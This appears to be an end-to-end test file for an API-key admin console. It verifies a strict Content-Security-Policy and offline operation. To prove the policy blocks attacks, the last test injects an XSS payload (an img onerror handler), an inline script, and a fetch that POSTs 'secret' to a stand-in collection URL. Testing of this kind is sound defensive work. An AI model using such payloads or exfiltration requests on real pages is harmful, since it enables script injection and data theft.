// The console works with the network cut off, and its Content-Security-Policy
// is sent and enforced. Chromium runs with every host name unresolvable and
// every request to another origin aborted and recorded; the test signs in,
// walks every page and proves that no request left the server's origin. Run
// with `npm run test:e2e` after `npm run build`.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { type ConsoleServer, launchChromium, problems, startServer, watchProblems } from './console-fixture'
import { rpc } from '../../scripts/smoke'

// Functions given to page.evaluate run in Chromium; latch is type-checked without the DOM library.
declare const document: any, window: any, location: any, navigator: any, HTMLInputElement: any

const STEP_MS = 60_000

let latch: ConsoleServer
let browser: Browser
let context: BrowserContext
let page: Page
/** Every URL the browser asked for, and those outside the server's origin (aborted). */
const requested: string[] = []
const elsewhere: string[] = []

// Starting the binary and Chromium can take more than a hook's default 5 s on a busy machine.
beforeAll(async () => {
  latch = await startServer()
  // No name resolves: a request to any host but the loopback address fails before it reaches a network.
  browser = await launchChromium({ args: ['--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1'] })
  context = await browser.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' })
  context.setDefaultTimeout(5_000)
  await context.route('**/*', (route) => {
    const url = route.request().url()
    requested.push(url)
    if (new URL(url).origin === latch.url) return route.continue()
    elsewhere.push(url)
    return route.abort('internetdisconnected')
  })
  await watchProblems(context)
  page = await context.newPage()
}, 60_000)

afterAll(async () => {
  await browser?.close()
  await latch?.stop()
})

describe('console offline', () => {
  test(
    'the page is sent with a strict Content-Security-Policy and no-sniff, no-referrer headers',
    async () => {
      const response = (await page.goto(`${latch.url}/console`))!
      expect(response.status()).toBe(200)
      const headers = response.headers()
      const csp = Object.fromEntries(
        headers['content-security-policy']!.split(';').map((d) => {
          const [name, ...values] = d.trim().split(/\s+/)
          return [name, values.join(' ')]
        }),
      )
      expect(csp).toEqual({
        'default-src': "'none'",
        'script-src': "'self'",
        'style-src': "'self'",
        'img-src': "'self' data:",
        'connect-src': "'self'",
        'manifest-src': "'self'",
        'frame-ancestors': "'none'",
        'base-uri': "'none'",
        'form-action': "'none'",
        'object-src': "'none'",
        'require-trusted-types-for': "'script'",
        'trusted-types': "'none'",
      })
      expect(headers['x-content-type-options']).toBe('nosniff')
      expect(headers['referrer-policy']).toBe('no-referrer')
      expect(headers['x-frame-options']).toBe('DENY')
    },
    STEP_MS,
  )

  test(
    'signs in and renders every page with no request leaving the server’s origin',
    async () => {
      const key = latch.development.key
      const api = await rpc(latch.url, '/v2/apis.createApi', { name: 'offline' }, key)
      const created = await rpc(latch.url, '/v2/keys.createKey', { apiId: api.body.data.apiId, name: 'k' }, key)
      await rpc(latch.url, '/v2/ratelimit.limit', { namespace: 'email', identifier: 'u', limit: 1, duration: 60000 }, key)

      await page.goto(`${latch.url}/console`)
      await page.getByLabel('Root key').fill(key)
      await page.getByRole('button', { name: 'Sign in' }).click()
      const pages: [string, string][] = [
        ['/', 'Overview'],
        ['/apis', 'APIs'],
        [`/apis/${api.body.data.apiId}`, 'Keys of offline'],
        [`/apis/${api.body.data.apiId}/keys/${created.body.data.keyId}`, 'Key k'],
        ['/identities', 'Identities'],
        ['/permissions', 'Permissions and roles'],
        ['/ratelimits', 'Ratelimit namespaces'],
        ['/ratelimits/email', 'Namespace email'],
        ['/root-keys', 'Root keys'],
        ['/audit', 'Audit log'],
      ]
      for (const [hash, heading] of pages) {
        await page.goto(`${latch.url}/console#${hash}`)
        await page.getByRole('heading', { level: 1, name: heading }).waitFor()
        await page.locator('.paged p[aria-live]:not(:empty), figure.chart').first().waitFor()
      }
      expect(await problems(page)).toEqual([])
      expect(elsewhere).toEqual([])
      const paths = new Set(requested.map((u) => new URL(u).pathname.replace(/^\/v2\/.*/, '/v2/…')))
      expect([...paths].sort()).toEqual([
        '/console',
        '/console/api.js',
        '/console/app.js',
        '/console/catalogue.json',
        '/console/chart.js',
        '/console/console.css',
        '/console/dom.js',
        '/console/favicon.svg',
        '/console/forms.js',
        '/console/pages/apis.js',
        '/console/pages/audit.js',
        '/console/pages/identities.js',
        '/console/pages/key-form.js',
        '/console/pages/key.js',
        '/console/pages/keys.js',
        '/console/pages/overview.js',
        '/console/pages/permissions.js',
        '/console/pages/ratelimits.js',
        '/console/pages/root-keys.js',
        '/v2/…',
      ])
    },
    STEP_MS,
  )

  test(
    'the policy is enforced: markup from a string, an inline script and a request elsewhere are refused',
    async () => {
      const outcome = await page.evaluate(async () => {
        const attempt = async (f: () => unknown) => {
          try {
            await f()
            return 'allowed'
          } catch (e) {
            return (e as Error).name
          }
        }
        return {
          innerHTML: await attempt(() => {
            document.body.innerHTML = '<img src=x onerror="window.ran = 1">'
          }),
          inlineScript: await attempt(() => {
            const script = document.createElement('script')
            script.textContent = 'window.ran = 1'
            document.body.append(script)
          }),
          fetchElsewhere: await attempt(() => fetch('https://example.com/collect', { method: 'POST', body: 'secret' })),
          ran: (window as unknown as { ran?: number }).ran ?? 0,
        }
      })
      expect(outcome).toEqual({ innerHTML: 'TypeError', inlineScript: 'TypeError', fetchElsewhere: 'TypeError', ran: 0 })
      const violations = await problems(page)
      expect(violations).toContain('CSP connect-src: https://example.com/collect')
      expect(violations.filter((v) => v.startsWith('CSP require-trusted-types-for')).length).toBe(2)
      // CSP stopped the request before it was made: the browser never asked for it.
      expect(elsewhere).toEqual([])
    },
    STEP_MS,
  )
})
